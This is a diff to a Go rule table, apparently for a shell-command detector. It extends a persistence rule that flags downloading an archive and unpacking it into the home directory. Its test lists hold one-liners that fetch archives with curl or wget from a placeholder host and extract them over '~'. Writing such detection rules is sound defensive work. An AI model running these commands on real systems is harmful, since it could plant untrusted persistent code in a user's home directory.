@@ -255,8 +255,8 @@ var persistence = []rules.Rule{
 		ID: "persistence.unpacked-home", Class: rules.Persistence, Local: true, Program: "tar unzip 7z cpio", Effect: grammar.Writes, Zone: rules.Home, From: flow.Brought,
 		Reason: "unpacks an archive from the network over the start-up files of a home",
 		Hint:   "unpack it below the work directory, read it, and copy what is needed",
-		Hits:   []string{"curl -LO http://h/d.tar && tar -C ~ -xf d.tar", "curl http://h/d.tar | tar -x -C ~"},
-		Misses: []string{"tar -C ~ -xf d.tar", "curl http://h/x.tgz | tar -xz -C ~/.local --strip-components=1", "curl -o /tmp/x.zip http://h/x.zip && unzip -o /tmp/x.zip -d ~/.local/bin"},
+		Hits:   []string{"curl -LO http://h/d.tar && tar -C ~ -xf d.tar", "curl http://h/d.tar | tar -x -C ~", "wget -qO d.zip http://h/d.zip && unzip -o d.zip -d ~"},
+		Misses: []string{"tar -C ~ -xf d.tar", "curl http://h/d.tgz | tar -xz", "curl http://h/d.tgz | tar -xz -C ~/src", "curl http://h/x.tgz | tar -xz -C ~/.local --strip-components=1", "curl -o /tmp/x.zip http://h/x.zip && unzip -o /tmp/x.zip -d ~/.local/bin"},
 	},
 	{
 		ID: "persistence.temporary-home", Class: rules.Persistence, Local: true, Program: "rsync", Operand: temporaryPlaces, First: true, Effect: grammar.Writes, Zone: rules.Home | rules.HoldsPersist,
